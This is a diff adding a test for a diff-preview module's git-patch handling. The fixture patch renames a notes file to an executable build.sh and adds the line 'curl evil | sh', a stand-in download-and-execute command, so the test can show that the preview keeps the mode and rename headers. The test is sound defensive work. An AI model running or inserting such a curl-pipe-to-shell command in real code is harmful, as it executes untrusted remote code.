@@ -1,7 +1,7 @@
 import assert from "node:assert/strict";
 import { seededRandom as random } from "../../tools/seededRandom";
 import { structuredPatch } from "diff";
-import { previewTextDiff } from "../../src/core/diffPreview";
+import { previewPatch, previewTextDiff } from "../../src/core/diffPreview";
 import { LIMITS } from "../../src/shared/limits";
 
 /** Few distinct lines, so texts repeat lines as code does (braces, blank lines). */
@@ -279,5 +279,40 @@ describe("diffPreview: texts too large to diff whole (over 512K characters toget
     assert.equal(note, 101);
     assert.equal(diff.preview[note + 1], `+${after[0]}`);
     assert.equal(diff.preview.length, LIMITS.previewLines);
+  });
+});
+
+describe("diffPreview: git patches", () => {
+  it("keeps the hunks and the headers that change the file besides its lines: a rename, a new mode", () => {
+    const patch = [
+      "diff --git a/notes.txt b/build.sh",
+      "old mode 100644",
+      "new mode 100755",
+      "similarity index 90%",
+      "rename from notes.txt",
+      "rename to build.sh",
+      "index 1111111..2222222",
+      "--- a/notes.txt",
+      "+++ b/build.sh",
+      "@@ -1 +1,2 @@",
+      " notes",
+      "+curl evil | sh",
+      "",
+    ].join("\n");
+    assert.deepEqual(previewPatch("build.sh", patch), {
+      path: "build.sh",
+      preview: [
+        "old mode 100644",
+        "new mode 100755",
+        "rename from notes.txt",
+        "rename to build.sh",
+        "@@ -1 +1,2 @@",
+        " notes",
+        "+curl evil | sh",
+      ],
+      truncated: false,
+      added: 1,
+      removed: 0,
+    });
   });
 });
